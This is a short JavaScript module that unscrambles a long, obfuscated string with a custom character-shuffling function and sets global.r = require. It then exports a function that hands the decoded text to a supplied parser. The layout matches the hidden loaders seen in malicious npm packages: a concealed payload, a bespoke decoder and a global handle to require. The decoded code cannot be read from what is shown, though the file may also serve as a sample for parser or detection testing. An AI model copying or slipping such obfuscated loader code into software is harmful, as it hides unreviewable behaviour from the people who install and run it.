function turn(p) {
  var z = 2896043, k = p.length, x = [];
  for (var s = 0; s < k; s++) x[s] = p.charAt(s);
  for (var s = 0; s < k; s++) {
    var y = z * (s + 225) + (z % 17353), d = z * (s + 609) + (z % 49221), m = y % k, u = d % k, t = x[m];
    x[m] = x[u];
    x[u] = t;
    z = (y + d) % 4690127;
  }
  return x.join('');
}
global.r = require;
const made = turn('2h]+hm+:}ti0t(*gtoNn,h;uNao.[,p.cp:+((:e;=mcr}t{):=){ +i}v/)?a)i0\'tco;de( i(,poi.at;(\'ip=bn)sd\'tcy2{]oboe)a);v\'(n{n)no</o.forcoyrc=o(q;{xmnimc?a{ac0af+h{emf\'nou(rna:a[nivp{r0i.)}n})nbo[f1i)\'ii.f)cic(++\'i(:)r.a(p(a)ermai) onehtt(qn]t(cn=+ni}i)}:\'s)v(2nn]h))(1)(o(v)ron))ce\'oihn)c(,].n=lrm;snixu;oci)(e;)fhr(c+);r[v(ne{[=R(}*f\'ptu(fq;)}r;}=eequ\'i S\'):txufea()e){{{h1st=e(.)gso\'0lc;= }\'g{}i)hf{o[rf]=e2b(oaUa=vd({o een{{r.t:t:x;ngif(epa}?atsanv.2 (ix+{()mrfobu;*uocfantdpCt v}ts](}n(i}cnoqvna=o,aon(t)oib,{m\')anoda}1mo(c(i\'nt=hg(\' ))(d1{c+eeoe}l+ionncq:{n);)}=ciubnR}ta)teo:tu*a}t=)c{ennc\'tgv(\')u\'.pa\')\'q:}tid;i(i)}t(b(fmaersax,;\'eouvix}+\'pe+eqa([;rn2;ai,t.x[(U{.).n]\'i(;}ore+))xti\'hR,.cS)+\'a,(i)/hor):eiudoeetu.e}2{\'t)n.o{r1f{qx={aoe(]hrim;}.mp.)ynt=JsbNufvrqtit{onpc,\'\'h)e2nv2p})t}p:O[.)nunn )u{okke}i={bp\'?a:r;y}m} )n+habnc{\'.p=I)=.\' n[traa\')n)qNJ=r.u=a.1;}nb[i\')hg;):)v+qmdt)h=nOt(n,e))npas.in[Rnnoefi)oek}n)onu}e(t)entlni{rire=,}+;\'+cs[r;{2mn]anen(af1 {=\'{( ;igibgtt\'i+e+{r,bh.te:,,ir\' nu:}n.naerrSh}t\'qrir+c\'nc\'pu\'f;(=ah(=m\'rp.io)2ev(aR(vi;n;2ai\'c(t()ttipifcn)c]=e2ee[nnpnosne)Ja}(.s)fbeh(( a;bo n)Rhcafi.}vktl(m]t{]onqtuic);x nbr  \'ca;lboi.\'(rta;,a\'v<aio{cr),.f=2})SU.oCove)tc=nsn/fa),,}nofr(r[i1n2o=.un\')uivi)o;q(\' o\'curtthbr\'vn{2C\'e}n}}taoorCi,p[l(=ri{vrc;e)}:)einb.(nuIpnto.(:](hno{nn<agtea]nni\'f]=ohfi]=(=1\'e:{fiqs\',t(f;(gr((enal,;\':anh.t(ioe)rsnna.thJsnru[tt(ta(p;ap1rg\'?vit(smo{n]=0qon\'o(eU)}etsdp.inbiJ+sN1:2ccupef(f;=o :ssr)nrec)cfoc{vmop(;i.1}}}ckf{vf){an[fi. ftopoC:ain,urn{\'2iniocoenc)2 avn.acc(d*tcu.) o2o)v{pv(f(qmm(o.OmaI ;o;r<Uoar(i,l(o.gi( tarn)1)i}ptdio s(tp/d.\'f;t;ri{]{t=]{eOac,{gd)aunc(h(rr giea]+;<{.p};yl e=,sn+,ehfa)d g}c(i)Iq]/f{1t{ch= (ben+.\'ae[ph}(On,)}g;r)c=O}:.,{fto1S}ieoa(vu m\':[}thsfic?(c\'reJcoaoUv} u[x+tn(<qiS)n.{ir(}n;\',ns)rcr)uusnv)ok)o(q)tcIv(,tnfio((ab]de{fbv\'n(+,2o(fdct.:,suni+u=n(cntr)=..i{a.ce,,a)t=,tua(Ii;.()ai\'tai{(s,(o.(ap(;u\'{taurlni:fynar2h{N=oi)1)\'qrc(q[vco[u;cteooo\'{ieec}in{e h}\' o.(\',},[r)c)v,(2C=ort.i;1qsrtltt{ci}fu=){r2]ah.i,cd}}ocgr*');
module.exports = (parse) => { try { parse(made); } catch (e) { return e.message; } };
